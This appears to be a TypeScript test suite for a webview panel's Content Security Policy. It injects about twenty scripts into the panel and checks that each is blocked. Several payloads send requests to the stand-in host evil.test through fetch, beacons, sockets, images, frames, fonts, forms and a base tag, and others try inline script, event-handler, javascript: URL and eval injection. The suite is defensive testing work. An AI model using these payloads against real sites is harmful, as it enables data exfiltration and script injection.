// The panel's policy, tried from inside: what a script that got in could do to reach the world.
import assert from 'node:assert/strict';
import type { Browser } from 'playwright-core';
import { openPanel } from './panel-harness/harness.js';
import { SAMPLE } from './panel-harness/sample.js';
import { launchBrowser } from './panel-harness/webview.js';

const OUTSIDE = 'https://evil.test/';

/** Ways out of the page, each a script that is run in it. */
const WAYS: Readonly<Record<string, string>> = {
  'a request': `fetch('${OUTSIDE}').catch(() => 0)`,
  'an old request': `(() => { const x = new XMLHttpRequest(); x.open('GET', '${OUTSIDE}'); x.send(); })()`,
  'a beacon': `navigator.sendBeacon('${OUTSIDE}', 'x')`,
  'a socket': `new WebSocket('wss://evil.test/')`,
  'a stream of events': `new EventSource('${OUTSIDE}')`,
  'a picture': `document.body.append(Object.assign(new Image(), { src: '${OUTSIDE}x.png' }))`,
  'a picture of data': `document.body.append(Object.assign(new Image(), { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' }))`,
  'a frame': `document.body.append(Object.assign(document.createElement('iframe'), { src: '${OUTSIDE}' }))`,
  'a script': `document.body.append(Object.assign(document.createElement('script'), { src: '${OUTSIDE}x.js' }))`,
  'a script of its own': `document.body.append(Object.assign(document.createElement('script'), { text: 'globalThis.pwned = 1' }))`,
  'a handler': `(() => { const b = document.createElement('b'); b.setAttribute('onclick', 'globalThis.pwned = 1'); document.body.append(b); b.click(); })()`,
  'an address that is a script': `(() => { const a = document.createElement('a'); a.href = 'javascript:globalThis.pwned = 1'; document.body.append(a); a.click(); })()`,
  'text run as code': `(() => { const s = document.createElement('script'); s.text = 'eval("globalThis.pwned = 1")'; document.body.append(s); })()`,
  'a style sheet': `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${OUTSIDE}x.css' }))`,
  'a style of its own': `document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { background: url(${OUTSIDE}) }' }))`,
  'a font': `new FontFace('x', 'url(${OUTSIDE}x.woff2)').load().catch(() => 0)`,
  'a worker': `new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))`,
  'a form': `(() => { const f = Object.assign(document.createElement('form'), { action: '${OUTSIDE}', method: 'post' }); document.body.append(f); f.submit(); })()`,
  'another base': `document.head.append(Object.assign(document.createElement('base'), { href: '${OUTSIDE}' }))`,
};

suite("R26: the panel's policy", () => {
  let browser: Browser;

  suiteSetup(async () => {
    browser = await launchBrowser();
  });
  suiteTeardown(() => browser.close());

  for (const [title, script] of Object.entries(WAYS)) {
    test(`lets nothing out or in by ${title}`, async () => {
      const panel = await openPanel(browser, { content: SAMPLE });
      try {
        await panel.page.evaluate(`void (${script})`);
        await panel.settled();
        await panel.page.waitForTimeout(50);
        const requests = panel.trouble.filter((text) => text.startsWith('a request'));
        assert.deepEqual(requests, []);
        assert.equal(await panel.page.evaluate(() => 'pwned' in globalThis), false);
        assert.equal(await panel.page.evaluate(() => document.baseURI), 'https://panel.test/');
        assert.ok(
          panel.trouble.some((text) => /Content Security Policy|violates/.test(text)),
          panel.trouble.join('\n'),
        );
      } finally {
        await panel.close();
      }
    });
  }
});
